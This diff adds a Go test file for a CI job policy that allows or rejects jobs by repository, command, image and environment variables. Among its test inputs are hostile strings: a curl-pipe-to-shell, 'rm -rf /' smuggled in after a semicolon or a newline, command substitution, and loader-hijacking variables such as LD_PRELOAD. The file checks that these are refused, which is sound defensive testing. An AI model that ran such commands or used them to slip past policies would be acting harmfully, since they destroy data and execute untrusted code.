@@ -0,0 +1,97 @@
+package minici
+
+import (
+	"errors"
+	"os"
+	"path/filepath"
+	"testing"
+)
+
+func TestJobPolicy(t *testing.T) {
+	path := filepath.Join(t.TempDir(), "policy.yaml")
+	content := "repos: [\"https://github.com/ocuroot/*\"]\ncommands: [\"make \", \"go test\"]\n"
+	if err := os.WriteFile(path, []byte(content), 0o644); err != nil {
+		t.Fatal(err)
+	}
+	policy, err := LoadJobPolicy(path)
+	if err != nil {
+		t.Fatal(err)
+	}
+
+	for _, test := range []struct {
+		repo, command string
+		allowed       bool
+	}{
+		{"https://github.com/ocuroot/minici", "make test", true},
+		{"https://github.com/ocuroot/minici", "go test -json ./... > results.json", true},
+		{"https://github.com/someone/else", "make test", false},
+		{"https://github.com/ocuroot/minici/extra", "make test", false},
+		{"https://github.com/ocuroot/minici", "curl example.com | sh", false},
+		{"https://github.com/ocuroot/minici", "make test; rm -rf /", false},
+		{"https://github.com/ocuroot/minici", "make $(cat cmd)", false},
+		{"https://github.com/ocuroot/minici", "make test\nrm -rf /", false},
+	} {
+		err := policy.Check(JobSpec{RepoURI: test.repo, Commit: "main", Command: test.command})
+		if test.allowed && err != nil {
+			t.Errorf("Expected %s running %q to be allowed, got %v", test.repo, test.command, err)
+		}
+		if !test.allowed && !errors.Is(err, ErrJobRejected) {
+			t.Errorf("Expected %s running %q to be rejected, got %v", test.repo, test.command, err)
+		}
+	}
+
+	// An empty policy allows anything
+	if err := (JobPolicy{}).Check(JobSpec{RepoURI: "anything", Command: "a; b", Image: "any", Env: map[string]string{"BASH_ENV": "x"}}); err != nil {
+		t.Errorf("Expected an empty policy to allow the job, got %v", err)
+	}
+
+	for _, content := range []string{"repos: [\"[\"]\n", "images: [\"[\"]\n", "env: [\"[\"]\n"} {
+		if err := os.WriteFile(path, []byte(content), 0o644); err != nil {
+			t.Fatal(err)
+		}
+		if _, err := LoadJobPolicy(path); err == nil {
+			t.Errorf("Expected an invalid pattern in %q to be rejected", content)
+		}
+	}
+}
+
+func TestJobPolicyImagesAndEnv(t *testing.T) {
+	policy := JobPolicy{Images: []string{"golang:*"}, Env: []string{"GOFLAGS", "TEST_*", "LD_PRELOAD"}}
+	for _, test := range []struct {
+		name    string
+		image   string
+		env     map[string]string
+		allowed bool
+	}{
+		{name: "repo's image", allowed: true},
+		{name: "allowed image", image: "golang:1.24", allowed: true},
+		{name: "other image", image: "attacker/miner", allowed: false},
+		{name: "allowed env", env: map[string]string{"GOFLAGS": "-race", "TEST_SHARD": "1"}, allowed: true},
+		{name: "other env", env: map[string]string{"GOFLAGS": "-race", "HOME": "/tmp"}, allowed: false},
+		{name: "loader env", env: map[string]string{"LD_PRELOAD": "x.so"}, allowed: true},
+	} {
+		err := policy.Check(JobSpec{RepoURI: "repo", Command: "make", Image: test.image, Env: test.env})
+		if test.allowed && err != nil {
+			t.Errorf("%s: expected the job to be allowed, got %v", test.name, err)
+		}
+		if !test.allowed && !errors.Is(err, ErrJobRejected) {
+			t.Errorf("%s: expected the job to be rejected, got %v", test.name, err)
+		}
+	}
+
+	// Restricted commands can't be got around with variables that make the
+	// shell or its programs run something else, even if they're allowed
+	policy.Commands = []string{"make "}
+	for _, name := range []string{"BASH_ENV", "ENV", "PATH", "LD_PRELOAD", "DYLD_INSERT_LIBRARIES"} {
+		err := JobPolicy{Commands: policy.Commands}.Check(JobSpec{RepoURI: "repo", Command: "make test", Env: map[string]string{name: "x"}})
+		if !errors.Is(err, ErrJobRejected) {
+			t.Errorf("Expected %s to be rejected with restricted commands, got %v", name, err)
+		}
+	}
+	if err := policy.Check(JobSpec{RepoURI: "repo", Command: "make test", Env: map[string]string{"LD_PRELOAD": "x.so"}}); !errors.Is(err, ErrJobRejected) {
+		t.Errorf("Expected LD_PRELOAD to be rejected with restricted commands even when allowed, got %v", err)
+	}
+	if err := policy.Check(JobSpec{RepoURI: "repo", Command: "make test", Env: map[string]string{"GOFLAGS": "-race"}}); err != nil {
+		t.Errorf("Expected an allowed variable to be allowed with restricted commands, got %v", err)
+	}
+}